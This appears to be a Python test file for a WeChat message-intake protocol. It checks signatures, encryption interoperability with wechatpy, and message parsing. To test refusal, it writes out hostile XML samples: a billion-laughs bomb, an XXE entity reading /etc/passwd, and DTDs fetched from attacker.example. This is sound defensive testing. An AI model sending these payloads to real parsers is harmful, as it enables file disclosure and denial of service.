"""The WeChat protocol without HTTP or a database: signatures, safe mode's envelope checked against
wechatpy (the independent SDK), hostile XML refused, messages typed, replies well formed."""

from __future__ import annotations

import hashlib
import time

import pytest
from wechatpy import parse_message as sdk_parse_message
from wechatpy.crypto import WeChatCrypto

from intake.wechat import replies
from intake.wechat.protocol import (
    MAX_XML_BYTES,
    BadAppId,
    BadCiphertext,
    BadMessage,
    BadSignature,
    BadXml,
    Cipher,
    EventMessage,
    ImageMessage,
    LocationMessage,
    OtherMessage,
    TextMessage,
    VoiceMessage,
    parse_message,
    parse_xml,
    signature_ok,
    text_reply_xml,
    timestamp_ok,
)

TOKEN = "unit-token"
AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
APPID = "wx0000000000000001"
OPENID = "oUser_abcdefghijklmnopqrstuv"


def text_xml(content: str = "路灯坏了", msg_id: str = "1234567890123456") -> str:
    return (
        "<xml><ToUserName><![CDATA[gh_abc]]></ToUserName>"
        f"<FromUserName><![CDATA[{OPENID}]]></FromUserName><CreateTime>1700000000</CreateTime>"
        f"<MsgType><![CDATA[text]]></MsgType><Content><![CDATA[{content}]]></Content>"
        f"<MsgId>{msg_id}</MsgId></xml>"
    )


# --- signatures -----------------------------------------------------------------------------------


def test_the_url_signature_is_sha1_of_the_sorted_token_timestamp_and_nonce() -> None:
    timestamp, nonce = "1700000000", "872634"
    expected = hashlib.sha1("".join(sorted([TOKEN, timestamp, nonce])).encode()).hexdigest()
    assert signature_ok(TOKEN, expected, timestamp, nonce)
    assert not signature_ok(TOKEN, expected, timestamp, "872635")
    assert not signature_ok("other-token", expected, timestamp, nonce)
    assert not signature_ok(TOKEN, "", timestamp, nonce)


def test_timestamps_outside_the_window_are_refused() -> None:
    now = 1_700_000_000.0
    assert timestamp_ok("1700000000", 300, now=now)
    assert timestamp_ok(str(int(now) - 300), 300, now=now)
    assert not timestamp_ok(str(int(now) - 301), 300, now=now)
    assert not timestamp_ok(str(int(now) + 301), 300, now=now)
    assert not timestamp_ok("yesterday", 300, now=now)


# --- safe mode ------------------------------------------------------------------------------------


def test_what_wechatpy_encrypts_we_decrypt_and_the_other_way_round() -> None:
    sdk = WeChatCrypto(TOKEN, AES_KEY, APPID)
    timestamp, nonce = str(int(time.time())), "5550123"
    envelope = parse_xml(sdk.encrypt_message(text_xml("井盖丢了"), nonce, timestamp).encode())
    ours = Cipher(TOKEN, AES_KEY, APPID)
    inner = ours.decrypt(
        envelope["Encrypt"], msg_signature=envelope["MsgSignature"], timestamp=timestamp, nonce=nonce
    )
    message = parse_message(parse_xml(inner))
    assert isinstance(message, TextMessage) and message.content == "井盖丢了"

    reply = text_reply_xml(to_user=OPENID, from_user="gh_abc", content="已受理]]>编号1")
    encrypted = ours.encrypt(reply, nonce="abc123", timestamp=timestamp)
    fields = parse_xml(encrypted.encode())
    assert set(fields) == {"Encrypt", "MsgSignature", "TimeStamp", "Nonce"}
    decrypted = sdk.decrypt_message(encrypted, fields["MsgSignature"], fields["TimeStamp"], fields["Nonce"])
    parsed = sdk_parse_message(decrypted)
    assert parsed.type == "text" and parsed.content == "已受理]]>编号1"
    assert parsed.source == "gh_abc" and parsed.target == OPENID


def test_a_wrong_msg_signature_a_foreign_appid_and_garbage_are_refused() -> None:
    timestamp, nonce = str(int(time.time())), "42"
    envelope = parse_xml(
        WeChatCrypto(TOKEN, AES_KEY, APPID).encrypt_message(text_xml(), nonce, timestamp).encode()
    )
    ours = Cipher(TOKEN, AES_KEY, APPID)
    with pytest.raises(BadSignature):
        ours.decrypt(envelope["Encrypt"], msg_signature="0" * 40, timestamp=timestamp, nonce=nonce)
    foreign = parse_xml(
        WeChatCrypto(TOKEN, AES_KEY, "wx-someone-else").encrypt_message(text_xml(), nonce, timestamp).encode()
    )
    with pytest.raises(BadAppId):
        ours.decrypt(
            foreign["Encrypt"], msg_signature=foreign["MsgSignature"], timestamp=timestamp, nonce=nonce
        )
    garbage = "bm90IGNpcGhlcnRleHQ="  # "not ciphertext", signed correctly
    signature = hashlib.sha1("".join(sorted([TOKEN, timestamp, nonce, garbage])).encode()).hexdigest()
    with pytest.raises(BadCiphertext):
        ours.decrypt(garbage, msg_signature=signature, timestamp=timestamp, nonce=nonce)


def test_a_bad_encoding_aes_key_is_a_configuration_error() -> None:
    with pytest.raises(ValueError):
        Cipher(TOKEN, "too-short", APPID)


# --- hostile and broken XML -----------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol9;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh</ToUserName><FromUserName>o1</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>x</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<xml><Content>x</Content></xml>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, b"<!DOCTYPE xml><xml/>"],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "bare-doctype"],
)
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(BadXml) as refused:
        parse_xml(body)
    assert "DTD" in refused.value.reason


@pytest.mark.parametrize(
    "body",
    [b"", b"   ", b"<xml><a>x</xml>", b"not xml at all", b"<xml>", "<xml>中</xml>".encode("gbk"), b"<root/>"],
    ids=["empty", "blank", "mismatched", "text", "unclosed", "wrong-encoding", "wrong-root"],
)
def test_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(BadXml):
        parse_xml(body)


def test_oversized_xml_is_refused_before_parsing() -> None:
    body = b"<xml><Content>" + b"a" * MAX_XML_BYTES + b"</Content></xml>"
    with pytest.raises(BadXml):
        parse_xml(body)


def test_fields_are_read_from_cdata_and_plain_text() -> None:
    fields = parse_xml(text_xml("东门<路灯>").encode())
    assert fields["Content"] == "东门<路灯>" and fields["MsgId"] == "1234567890123456"


# --- messages -------------------------------------------------------------------------------------


def fields(msg_type: str, **extra: str) -> dict[str, str]:
    base = {"ToUserName": "gh_abc", "FromUserName": OPENID, "CreateTime": "1700000000", "MsgType": msg_type}
    return base | extra


def test_each_message_type_becomes_its_typed_message() -> None:
    text = parse_message(fields("text", Content="垃圾没人清", MsgId="1"))
    assert isinstance(text, TextMessage) and text.key == "1"
    image = parse_message(fields("image", PicUrl="http://mmbiz.qpic.cn/x", MediaId="m1", MsgId="2"))
    assert isinstance(image, ImageMessage) and image.pic_url == "http://mmbiz.qpic.cn/x"
    voice = parse_message(fields("voice", MediaId="v1", Format="amr", Recognition="路面塌陷", MsgId="3"))
    assert isinstance(voice, VoiceMessage) and voice.recognition == "路面塌陷"
    location = parse_message(
        fields("location", Location_X="30.27", Location_Y="120.15", Scale="15", Label="某路1号", MsgId="4")
    )
    assert isinstance(location, LocationMessage)
    assert (location.lat, location.lon, location.scale, location.label) == (30.27, 120.15, 15, "某路1号")
    event = parse_message(fields("event", Event="subscribe"))
    assert isinstance(event, EventMessage) and event.event == "subscribe"
    assert event.key == f"{OPENID}:1700000000:subscribe"  # events have no MsgId
    video = parse_message(fields("video", MediaId="x", MsgId="5"))
    assert isinstance(video, OtherMessage)


@pytest.mark.parametrize(
    "bad",
    [
        {"FromUserName": ""},
        {"FromUserName": "o<script>"},
        {"CreateTime": "soon"},
        {"MsgType": ""},
        {"MsgId": "12ab"},
        {"Location_X": "north"},
        {"Location_X": "95"},
        {"Location_Y": "nan"},
    ],
)
def test_a_message_missing_or_mangling_a_field_is_refused(bad: dict[str, str]) -> None:
    good = fields("location", Location_X="30.27", Location_Y="120.15", MsgId="4")
    with pytest.raises(BadMessage):
        parse_message(good | bad)


def test_a_message_without_msgid_is_refused_unless_it_is_an_event() -> None:
    with pytest.raises(BadMessage):
        parse_message(fields("text", Content="hi"))


def test_replies_are_short_and_name_the_case() -> None:
    assert replies.accepted("20261125000001", 10.0).startswith("已受理，案件编号：20261125000001。")
    assert "10分钟内" in replies.accepted("x", 10.0)
    assert (
        replies.supplemented("20261125000001", replies.ADDED_LOCATION)
        == "已将您补充的位置并入案件20261125000001。"
    )
    merged = replies.CaseLine("20261125000002", "重复件", None, "20261125000001")
    assert replies.case_line(merged) == "20261125000002：已并入案件20261125000001办理"
    # WeChat refuses a passive text reply above 2048 bytes.
    lines = [
        replies.CaseLine(f"2026112500000{i}", "已派遣", "市容环境卫生类别名称较长", None) for i in range(5)
    ]
    assert len(replies.case_list(lines).encode()) < 2048
    assert len(replies.welcome(10).encode()) < 2048
